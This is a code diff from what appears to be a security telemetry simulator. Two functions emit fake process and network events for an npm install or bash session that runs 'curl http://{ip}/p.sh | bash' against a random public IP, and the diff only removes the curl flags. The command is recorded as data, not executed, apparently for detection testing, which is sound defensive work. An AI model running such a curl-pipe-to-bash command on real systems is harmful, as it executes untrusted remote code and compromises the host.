@@ -495,9 +495,9 @@ def dsc_linux_npm(r: Rec, t: int) -> None:
     ctx = r.ctx
     node = _npm(r, t, f"install {ctx.rng.choice(C.NPM_PACKAGES)}@3.4.1")
     ip = public_ip(ctx.rng)
-    sh = r.proc("shell", ctx.spawn(node, "sh", f'sh -c "curl -fsSL http://{ip}/p.sh | bash"', t + ctx.secs(4, 15),
+    sh = r.proc("shell", ctx.spawn(node, "sh", f'sh -c "curl http://{ip}/p.sh | bash"', t + ctx.secs(4, 15),
                                    image="/usr/bin/dash"))
-    curl = r.proc("download", ctx.spawn(sh, "curl", f"curl -fsSL http://{ip}/p.sh", sh.start + ctx.ms(5, 20)))
+    curl = r.proc("download", ctx.spawn(sh, "curl", f"curl http://{ip}/p.sh", sh.start + ctx.ms(5, 20)))
     r.net("download", curl, curl.start + ctx.ms(20, 80), Endpoint(ip, 80, "tcp", ""))
     r.proc("payload", ctx.spawn(sh, "bash", "bash", sh.start + ctx.ms(6, 25)))
 
@@ -537,8 +537,8 @@ def dsc_shell_from_bash(r: Rec, t: int) -> None:
     ctx = r.ctx
     b = r.proc("parent", _user_bash(r, t))
     ip = public_ip(ctx.rng)
-    sh = r.proc("shell", ctx.spawn(b, "sh", f'sh -c "curl -fsSL http://{ip}/p.sh | bash"', t, image="/usr/bin/dash"))
-    curl = ctx.spawn(sh, "curl", f"curl -fsSL http://{ip}/p.sh", t + ctx.ms(5, 20))
+    sh = r.proc("shell", ctx.spawn(b, "sh", f'sh -c "curl http://{ip}/p.sh | bash"', t, image="/usr/bin/dash"))
+    curl = ctx.spawn(sh, "curl", f"curl http://{ip}/p.sh", t + ctx.ms(5, 20))
     ctx.net(curl, curl.start + ctx.ms(20, 80), Endpoint(ip, 80, "tcp", ""))
 
 
